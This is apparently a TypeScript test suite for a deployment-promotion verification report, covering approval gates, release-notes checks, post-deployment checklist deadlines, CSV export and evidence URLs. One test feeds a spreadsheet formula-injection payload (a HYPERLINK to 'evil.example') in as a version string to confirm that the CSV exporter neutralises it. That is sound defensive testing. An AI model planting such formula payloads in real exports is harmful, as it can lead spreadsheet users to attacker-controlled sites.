import {
  Deployment,
  FlowFacts,
  GateCondition,
  PromotionPolicy,
  PromotionRequest,
  readPromotionConfig,
} from '@promotion/plugin-promotion-common';
import {
  buildVerificationReport,
  deploymentEvidenceUrl,
} from './verificationReport';
import { verificationReportToCsv } from './verificationReportCsv';

const FLOW = 'component:default/payments-sftp';

const RELEASE_NOTES_ITEM = {
  id: 'release-notes-delivered',
  title: 'Release notes distributed to the Director',
};

/** Production's post-deployment items are due 30 minutes after their minimum wait. */
const policyOf = (
  mode: 'once' | 'every',
  options: { releaseNotesItem?: boolean } = {},
): PromotionPolicy =>
  readPromotionConfig({
    policies: {
      p: {
        environments: [
          { id: 'test', checklist: [{ id: 'e2e', title: 'E2E' }] },
          {
            id: 'prod',
            title: 'Production',
            approval: { mode, approvers: ['group:default/directors'] },
            postDeployment: {
              dueWithin: 'PT30M',
              checklist: [
                {
                  id: 'monitor-logs',
                  title: 'Monitor logs',
                  minimumWait: { minutes: 15 },
                },
                { id: 'tickets', title: 'Tickets closed' },
                ...(options.releaseNotesItem === false
                  ? []
                  : [RELEASE_NOTES_ITEM]),
              ],
            },
          },
        ],
      },
    },
  }).policies.p;

const at = (minutes: number) =>
  new Date(Date.UTC(2025, 0, 1, 10, minutes)).toISOString();

let nextId = 0;
const deployment = (overrides: Partial<Deployment>): Deployment => ({
  id: `d${++nextId}`,
  entityRef: FLOW,
  environmentId: 'prod',
  version: '1.0.0',
  status: 'succeeded',
  reportedBy: 'service:ci',
  reportedAt: at(0),
  violation: false,
  unmetConditions: [],
  ...overrides,
});

const condition = (code: GateCondition['code']): GateCondition => ({
  code,
  message: `${code} message.`,
});

const approvedRequest = (
  overrides: Partial<PromotionRequest>,
): PromotionRequest => ({
  id: 'r1',
  entityRef: FLOW,
  environmentId: 'prod',
  version: '1.0.0',
  status: 'approved',
  dossier: {
    whatChanged: 'a',
    why: 'b',
    testResults: 'c',
    releaseNotes: 'Release 1.0.0',
  },
  dossierHash: 'h',
  revision: 1,
  requestedBy: 'user:default/alice',
  createdAt: at(-60),
  updatedAt: at(-30),
  expiresAt: at(10000),
  decidedAt: at(-30),
  decisions: [],
  ...overrides,
});

const emptyFacts = (): FlowFacts => ({
  deployments: [],
  checklistCompletions: [],
  signOffs: [],
  standingApprovals: [],
  requests: [],
});

const completion = (version: string, itemId: string) => ({
  id: `c-${itemId}-${version}`,
  entityRef: FLOW,
  environmentId: 'prod',
  kind: 'post-deployment' as const,
  itemId,
  version,
  completedBy: 'user:default/alice',
  completedAt: at(20),
});

const allPostDeploymentDone = (version: string) =>
  ['monitor-logs', 'tickets', RELEASE_NOTES_ITEM.id].map(itemId =>
    completion(version, itemId),
  );

function report(options: {
  deployments: Deployment[];
  facts?: FlowFacts;
  policy?: PromotionPolicy;
  nowMinutes?: number;
}) {
  return buildVerificationReport({
    from: new Date(at(-120)),
    to: new Date(at(120)),
    now: new Date(at(options.nowMinutes ?? 120)),
    deployments: options.deployments,
    flows: new Map([
      [
        FLOW,
        {
          policy: options.policy ?? policyOf('every'),
          facts: options.facts ?? emptyFacts(),
        },
      ],
    ]),
    links: { appBaseUrl: 'https://portal.example.com/' },
  });
}

/** The kinds of the checks each row failed, by deployment id. */
const failedKinds = (result: ReturnType<typeof report>) =>
  Object.fromEntries(
    result.violations.map(v => [
      v.deploymentId,
      v.failedChecks.map(c => c.kind),
    ]),
  );

describe('buildVerificationReport', () => {
  it('passes every check for an approved, validated, completed deployment', () => {
    const facts = emptyFacts();
    facts.requests.push(approvedRequest({}));
    facts.checklistCompletions.push(...allPostDeploymentDone('1.0.0'));
    const result = report({ deployments: [deployment({})], facts });
    expect(result.violations).toEqual([]);
    expect(result.pending).toEqual([]);
    expect(result.deploymentsChecked).toBe(1);
    expect(result.checks.every(c => c.passed)).toBe(true);
    expect(result.checks.every(c => c.failedDeployments === 0)).toBe(true);
    expect(result.checks).toHaveLength(6);
  });

  it('lists one row per deployment with every check it failed', () => {
    const facts = emptyFacts();
    facts.checklistCompletions.push(...allPostDeploymentDone('1.0.0'));
    const d = deployment({
      violation: true,
      unmetConditions: [
        condition('previous-deployment-missing'),
        condition('checklist-incomplete'),
        condition('sign-off-missing'),
        condition('approval-required'),
      ],
    });
    const result = report({ deployments: [d], facts });
    expect(result.violations).toHaveLength(1);
    const [row] = result.violations;
    expect(row).toMatchObject({
      deploymentId: d.id,
      entityRef: FLOW,
      environmentId: 'prod',
      environmentTitle: 'Production',
      version: '1.0.0',
      occurredAt: d.reportedAt,
      evidence: `https://portal.example.com/catalog/default/component/payments-sftp/promotion?deployment=${d.id}`,
    });
    expect(row.failedChecks.map(c => c.kind)).toEqual([
      'production-without-approval',
      'not-validated-before-deployment',
      'deployment-into-closed-gate',
    ]);
    expect(row.failedChecks[0]).toEqual({
      kind: 'production-without-approval',
      title:
        'No deployment into an approval-gated environment without approval',
      sentences: ['approval-required message.'],
    });
    expect(row.failedChecks[1].sentences).toEqual([
      'checklist-incomplete message.',
      'sign-off-missing message.',
    ]);
    expect(row.failedChecks[2].sentences).toEqual([
      'previous-deployment-missing message.',
    ]);
    expect(result.checks.filter(c => !c.passed).map(c => c.kind)).toEqual([
      'production-without-approval',
      'not-validated-before-deployment',
      'deployment-into-closed-gate',
    ]);
    expect(
      result.checks.find(c => c.kind === 'production-without-approval'),
    ).toMatchObject({ failedDeployments: 1 });
  });

  it('does not count a failed deployment as one without approval', () => {
    const result = report({
      deployments: [
        deployment({
          status: 'failed',
          violation: true,
          unmetConditions: [condition('approval-pending')],
        }),
      ],
    });
    expect(Object.values(failedKinds(result))).toEqual([
      ['deployment-into-closed-gate'],
    ]);
  });

  it('fails the release-notes check when the approved dossier has none (`every`)', () => {
    const facts = emptyFacts();
    facts.checklistCompletions.push(...allPostDeploymentDone('1.0.0'));
    facts.requests.push(
      approvedRequest({
        dossier: {
          whatChanged: 'a',
          why: 'b',
          testResults: 'c',
          releaseNotes: '  ',
        },
      }),
    );
    const d = deployment({});
    let result = report({ deployments: [d], facts });
    expect(result.violations).toEqual([
      expect.objectContaining({
        deploymentId: d.id,
        failedChecks: [
          {
            kind: 'release-notes-missing',
            title:
              'Release notes were delivered at the time of each approved deployment',
            sentences: [
              'The dossier of the approved request for 1.0.0 into Production has no release notes.',
            ],
          },
        ],
      }),
    ]);

    // A request approved after the deployment does not cover it.
    facts.requests[0] = approvedRequest({ decidedAt: at(5) });
    result = report({ deployments: [d], facts });
    expect(failedKinds(result)).toEqual({ [d.id]: ['release-notes-missing'] });
    expect(result.violations[0].failedChecks[0].sentences[0]).toContain(
      'No approved promotion request covers 1.0.0 in Production',
    );
  });

  it('wants release notes on the request behind the standing approval (`once`)', () => {
    const facts = emptyFacts();
    facts.checklistCompletions.push(...allPostDeploymentDone('2.0.0'));
    facts.requests.push(approvedRequest({ version: '1.0.0' }));
    facts.standingApprovals.push({
      id: 's1',
      entityRef: FLOW,
      environmentId: 'prod',
      requestId: 'r1',
      grantedAt: at(-30),
      grantedBy: ['user:default/dave'],
    });
    const later = deployment({ version: '2.0.0', reportedAt: at(30) });
    let result = report({
      deployments: [later],
      facts,
      policy: policyOf('once'),
      nowMinutes: 120,
    });
    expect(result.violations).toEqual([]);

    // The dossier behind the standing approval has no release notes.
    facts.requests[0] = approvedRequest({
      version: '1.0.0',
      dossier: {
        whatChanged: 'a',
        why: 'b',
        testResults: 'c',
        releaseNotes: '',
      },
    });
    result = report({ deployments: [later], facts, policy: policyOf('once') });
    expect(result.violations[0].failedChecks[0].sentences).toEqual([
      'The dossier of the request for 1.0.0 behind the standing approval of Production has no release notes.',
    ]);

    // Revoked before the deployment: no approval covered it.
    facts.requests[0] = approvedRequest({ version: '1.0.0' });
    facts.standingApprovals[0].revokedAt = at(10);
    result = report({
      deployments: [later],
      facts,
      policy: policyOf('once'),
    });
    expect(failedKinds(result)).toEqual({
      [later.id]: ['release-notes-missing'],
    });
  });

  it('takes the release notes of a redeployed version from its first approved deployment (a rollback target)', () => {
    const facts = emptyFacts();
    facts.checklistCompletions.push(...allPostDeploymentDone('1.0.0'));
    facts.requests.push(approvedRequest({ version: '1.0.0' }));
    facts.standingApprovals.push({
      id: 's1',
      entityRef: FLOW,
      environmentId: 'prod',
      requestId: 'r1',
      grantedAt: at(-30),
      grantedBy: ['user:default/dave'],
      // Revoked by the rollback of 1.1.0.
      revokedAt: at(40),
    });
    const first = deployment({ version: '1.0.0', reportedAt: at(0) });
    const redeployed = deployment({ version: '1.0.0', reportedAt: at(50) });
    facts.deployments.push(first, redeployed);
    const result = report({
      deployments: [redeployed],
      facts,
      policy: policyOf('once'),
    });
    expect(result.violations).toEqual([]);
  });

  it('fails the release-notes check when the release-notes item is not completed once due', () => {
    const facts = emptyFacts();
    facts.requests.push(approvedRequest({}));
    facts.checklistCompletions.push(
      completion('1.0.0', 'monitor-logs'),
      completion('1.0.0', 'tickets'),
    );
    const d = deployment({ reportedAt: at(0) });

    // 20 minutes in, it is not due yet (30 minutes): pending for both checks.
    let result = report({ deployments: [d], facts, nowMinutes: 20 });
    expect(result.violations).toEqual([]);
    expect(result.pending).toEqual([
      expect.objectContaining({
        deploymentId: d.id,
        items: [
          {
            itemId: RELEASE_NOTES_ITEM.id,
            title: RELEASE_NOTES_ITEM.title,
            dueAt: at(30),
            checks: ['release-notes-missing', 'post-deployment-incomplete'],
          },
        ],
      }),
    ]);
    expect(result.checks.every(c => c.passed)).toBe(true);

    // Once due, both checks fail on the one row.
    result = report({ deployments: [d], facts, nowMinutes: 30 });
    expect(result.pending).toEqual([]);
    expect(failedKinds(result)).toEqual({
      [d.id]: ['release-notes-missing', 'post-deployment-incomplete'],
    });
    expect(result.violations[0].failedChecks[0].sentences).toEqual([
      `“${
        RELEASE_NOTES_ITEM.title
      }” was not completed for 1.0.0; it was due by ${at(30)}.`,
    ]);
  });

  it('checks only the dossier where the environment names no release-notes item, and says so', () => {
    const facts = emptyFacts();
    facts.requests.push(approvedRequest({}));
    facts.checklistCompletions.push(
      completion('1.0.0', 'monitor-logs'),
      completion('1.0.0', 'tickets'),
    );
    const policy = policyOf('every', { releaseNotesItem: false });
    let result = report({ deployments: [deployment({})], facts, policy });
    expect(result.violations).toEqual([]);
    const check = result.checks.find(c => c.kind === 'release-notes-missing')!;
    expect(check.passed).toBe(true);
    expect(check.explanation).toContain(
      "Production (policy p) names no post-deployment item for the release notes' distribution",
    );
    expect(check.explanation).toContain(
      "there only the dossier's release notes are checked",
    );

    facts.requests[0] = approvedRequest({
      dossier: {
        whatChanged: 'a',
        why: 'b',
        testResults: 'c',
        releaseNotes: '',
      },
    });
    result = report({ deployments: [deployment({})], facts, policy });
    expect(result.violations[0].failedChecks[0].sentences).toEqual([
      'The dossier of the approved request for 1.0.0 into Production has no release notes.',
      "Production names no post-deployment item for the release notes' distribution, so only the dossier was checked.",
    ]);

    // Where the item exists, the explanation does not claim otherwise.
    result = report({ deployments: [deployment({})], facts });
    expect(
      result.checks.find(c => c.kind === 'release-notes-missing')!.explanation,
    ).not.toContain('names no post-deployment item');
  });

  it('shows post-deployment items as pending until their minimum wait plus the grace has passed', () => {
    const facts = emptyFacts();
    facts.requests.push(approvedRequest({}));
    facts.checklistCompletions.push(completion('1.0.0', RELEASE_NOTES_ITEM.id));
    const d = deployment({ reportedAt: at(0) });

    // 10 minutes in: nothing is due; both items are pending, nothing failed.
    let result = report({ deployments: [d], facts, nowMinutes: 10 });
    expect(result.violations).toEqual([]);
    expect(result.pending).toHaveLength(1);
    expect(result.pending[0]).toMatchObject({
      deploymentId: d.id,
      environmentTitle: 'Production',
      evidence: `https://portal.example.com/catalog/default/component/payments-sftp/promotion?deployment=${d.id}`,
    });
    expect(
      result.pending[0].items.map(i => [i.title, i.dueAt, i.checks]),
    ).toEqual([
      ['Monitor logs', at(45), ['post-deployment-incomplete']],
      ['Tickets closed', at(30), ['post-deployment-incomplete']],
    ]);

    // 30 minutes in: the tickets are due, the log watch (15 + 30) is not.
    result = report({ deployments: [d], facts, nowMinutes: 30 });
    expect(result.violations[0].failedChecks).toEqual([
      {
        kind: 'post-deployment-incomplete',
        title:
          'The post-deployment checklist was completed once its minimum waits had passed',
        sentences: [
          `“Tickets closed” was not completed for 1.0.0; it was due by ${at(
            30,
          )}.`,
        ],
      },
    ]);
    expect(result.pending[0].items.map(i => i.title)).toEqual(['Monitor logs']);

    // 45 minutes in: both are overdue, nothing is pending.
    result = report({ deployments: [d], facts, nowMinutes: 45 });
    expect(result.violations[0].failedChecks[0].sentences).toHaveLength(2);
    expect(result.violations[0].failedChecks[0].sentences.join(' ')).toContain(
      'Monitor logs',
    );
    expect(result.pending).toEqual([]);

    // A rolled-back deployment is not held to its post-deployment checklist.
    result = report({
      deployments: [deployment({ rolledBackAt: at(5) })],
      facts,
      nowMinutes: 120,
    });
    expect(result.violations).toEqual([]);
    expect(result.pending).toEqual([]);
  });

  it('still classifies deployments of flows that no longer opt in', () => {
    const d = deployment({
      violation: true,
      unmetConditions: [condition('approval-required')],
    });
    const result = buildVerificationReport({
      from: new Date(at(-120)),
      to: new Date(at(120)),
      now: new Date(at(120)),
      deployments: [d],
      flows: new Map([[FLOW, { facts: emptyFacts() }]]),
    });
    expect(failedKinds(result)).toEqual({
      [d.id]: ['production-without-approval'],
    });
    expect(result.violations[0].environmentTitle).toBe('prod');
    // Without app.baseUrl, the evidence is the page's path.
    expect(result.violations[0].evidence).toBe(
      `/catalog/default/component/payments-sftp/promotion?deployment=${d.id}`,
    );
  });

  it('exports one CSV line per deployment, the failed checks joined, with a header row', () => {
    const facts = emptyFacts();
    facts.checklistCompletions.push(completion('1.0.0', 'monitor-logs'));
    facts.requests.push(approvedRequest({ id: 'r2', version: '1.1.0' }));
    const result = report({
      deployments: [
        deployment({
          id: 'd-csv',
          violation: true,
          unmetConditions: [
            { code: 'approval-required', message: 'Needs "approval", now.' },
            condition('sign-off-missing'),
            condition('previous-deployment-missing'),
          ],
        }),
        deployment({ id: 'd-pending', version: '1.1.0', reportedAt: at(100) }),
      ],
      facts,
      nowMinutes: 110,
    });
    const lines = verificationReportToCsv(result).trim().split('\n');
    expect(lines[0]).toBe(
      'occurredAt,entityRef,environmentId,version,deploymentId,failedChecks,details,pending,evidence',
    );
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain(
      'production-without-approval; not-validated-before-deployment; deployment-into-closed-gate',
    );
    expect(lines[1]).toContain('d-csv');
    // Quotes and commas are escaped.
    expect(lines[1]).toContain('""approval""');
    expect(lines[1]).toContain(
      ' | The previous environment was validated and signed off before each deployment: sign-off-missing message. | ',
    );
    expect(lines[1]).toContain(
      'https://portal.example.com/catalog/default/component/payments-sftp/promotion?deployment=d-csv',
    );
    // 1.1.0 has only pending items: its line names them and no failed check.
    expect(lines[2]).toContain(',d-pending,,,');
    expect(lines[2]).toContain(`Monitor logs (due by ${at(145)})`);
  });

  it('neutralises a version that a spreadsheet would run as a formula', () => {
    const result = report({
      deployments: [
        deployment({
          id: 'd-formula',
          version: '=HYPERLINK("http://evil.example/?x","open")',
          violation: true,
          unmetConditions: [condition('approval-required')],
        }),
      ],
    });
    const row = verificationReportToCsv(result).trim().split('\n')[1];
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x"",""open"")"`);
    expect(row).not.toMatch(/,=HYPERLINK|,"=HYPERLINK/);
  });
});

describe('deploymentEvidenceUrl', () => {
  it('opens the flow page of the portal on the deployment, with the placeholders encoded', () => {
    expect(
      deploymentEvidenceUrl('Component:team-a/file router', 'd 1', {
        appBaseUrl: 'https://portal.example.com',
      }),
    ).toBe(
      'https://portal.example.com/catalog/team-a/component/file%20router/promotion?deployment=d%201',
    );
    expect(
      deploymentEvidenceUrl('component:default/x', 'd1', {
        appBaseUrl: 'https://portal.example.com/base/',
        flowPageUrl: 'flows/{kind}/{namespace}/{name}?tab=promotion',
      }),
    ).toBe(
      'https://portal.example.com/base/flows/component/default/x?tab=promotion&deployment=d1',
    );
    // An absolute template is used as it is.
    expect(
      deploymentEvidenceUrl('component:default/x', 'd1', {
        appBaseUrl: 'https://portal.example.com',
        flowPageUrl: 'https://other.example.com/{namespace}/{name}',
      }),
    ).toBe('https://other.example.com/default/x?deployment=d1');
  });
});
